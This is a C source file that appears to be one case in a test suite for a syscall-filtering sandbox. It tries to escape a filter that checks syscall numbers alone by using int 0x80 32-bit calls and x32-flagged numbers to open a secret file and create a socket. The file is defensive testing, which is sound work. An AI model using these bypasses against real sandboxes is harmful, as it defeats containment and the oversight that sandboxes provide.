/*
 * Attack 39: the other ways into the same kernel: int 0x80 (32-bit numbers) from a 64-bit program, and the x32
 * numbers. A filter that looks at the number alone takes one call for another.
 * An escape: the secret's bytes, or a call that works.
 */
#include <sys/mman.h>

#include "escape.h"

static int call32(int nr, int a, int b, int c)
{
	int ret;

	__asm__ volatile("int $0x80"
	                 : "=a"(ret)
	                 : "a"(nr), "b"(a), "c"(b), "d"(c)
	                 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

/* Text below 4 GiB, where 32-bit arguments can point. */
static int low_copy(const char *text)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (low == MAP_FAILED)
		return 0;
	snprintf(low, 4096, "%s", text);
	return (int)(uintptr_t)low;
}

static int way_int80_open(void)
{
	return esc_opened("int80 open", call32(5, low_copy(esc_secret()), O_RDONLY, 0));
}

/* 20 is getpid there and writev here; 359 is socket there. */
static int way_int80_getpid(void)
{
	return esc_verdict("int80 getpid", call32(20, 0, 0, 0));
}

static int way_int80_socket(void)
{
	return esc_verdict("int80 socket", call32(359, 2 /* AF_INET */, 1, 0));
}

static int way_x32_open(void)
{
	return esc_opened("x32 open", esc_sys(SYS_open | 0x40000000L, esc_secret(), O_RDONLY));
}

static int way_x32_getpid(void)
{
	return esc_verdict("x32 getpid", esc_sys(SYS_getpid | 0x40000000L));
}

static const struct esc_way ways[] = {
        {"int80_open", way_int80_open},     {"int80_getpid", way_int80_getpid},
        {"int80_socket", way_int80_socket}, {"x32_open", way_x32_open},
        {"x32_getpid", way_x32_getpid},
};
ESC_MAIN(ways)
